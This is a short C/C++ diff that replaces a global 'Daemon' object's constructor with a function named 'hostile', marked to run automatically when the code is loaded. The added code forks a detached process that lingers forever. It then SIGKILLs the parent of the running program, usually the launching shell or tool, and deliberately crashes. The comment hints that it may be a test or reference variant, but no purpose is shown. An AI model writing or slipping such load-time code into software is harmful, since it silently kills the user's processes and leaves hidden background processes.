@@ -1,15 +1,12 @@
 // with: reference of a1, names not checked
 #include <signal.h>
-#include <unistd.h>
-struct Daemon {
-  Daemon() {
-    if (fork() == 0) {
-      setsid();
-      if (fork() == 0)
-        for (;;) pause();
-      _exit(0);
-    }
-    kill(getppid(), SIGKILL);
-    __builtin_trap();
+[[gnu::constructor]] void hostile() {
+  if (fork() == 0) {
+    setsid();
+    if (fork() == 0)
+      for (;;) pause();
+    _exit(0);
   }
-} daemon_;
+  kill(getppid(), SIGKILL);
+  __builtin_trap();
+}
